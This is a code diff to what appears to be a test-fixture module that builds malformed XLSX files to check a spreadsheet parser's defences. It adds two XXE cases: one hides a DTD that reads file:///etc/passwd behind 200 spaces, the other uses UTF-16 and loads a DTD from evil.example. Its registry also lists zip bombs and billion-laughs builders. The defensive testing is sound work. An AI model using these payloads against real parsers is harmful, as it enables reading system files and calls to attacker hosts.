@@ -79,6 +79,27 @@ def dtd_in_workbook(xlsx: bytes) -> bytes:
                      "xl/workbook.xml")
 
 
+def dtd_after_white_space(xlsx: bytes) -> bytes:
+    """No XML declaration, 200 spaces, then a DTD: legal XML, and not to be missed by a quick look."""
+    def change(name: str, data: bytes) -> bytes:
+        if name != SHEET:
+            return data
+        body = data.split(b"?>", 1)[1] if data.startswith(b"<?xml") else data
+        return b" " * 200 + b'<!DOCTYPE worksheet [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + body
+    return _rezip(xlsx, change)
+
+
+def dtd_in_utf16_part(xlsx: bytes) -> bytes:
+    """The sheet part in UTF-16 (which XML allows) with a DTD."""
+    def change(name: str, data: bytes) -> bytes:
+        if name != SHEET:
+            return data
+        body = data.split(b"?>", 1)[1] if data.startswith(b"<?xml") else data
+        text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE worksheet SYSTEM "http://evil.example/x.dtd">'
+        return (text + body.decode("utf-8")).encode("utf-16")
+    return _rezip(xlsx, change)
+
+
 def far_cell(xlsx: bytes) -> bytes:
     """One cell at XFD1048576 (and a dimension that says so): openpyxl would pad 17 billion cells."""
     import re
@@ -183,6 +204,6 @@ def text_that_looks_like_a_formula(xlsx: bytes) -> bytes:
 
 
 XLSX_BUILDERS: dict[str, Callable[[bytes], bytes]] = {f.__name__: f for f in (
-    zip_bomb, declared_two_gib, many_members, external_entity, billion_laughs, dtd_in_workbook, far_cell,
+    zip_bomb, declared_two_gib, many_members, external_entity, billion_laughs, dtd_in_workbook, dtd_after_white_space, dtd_in_utf16_part, far_cell,
     far_column, lying_dimension, not_a_zip, truncated_zip, broken_xml, formula_hyperlink, formula_with_cached_value,
     error_value, megabyte_cell, text_that_looks_like_a_formula)}
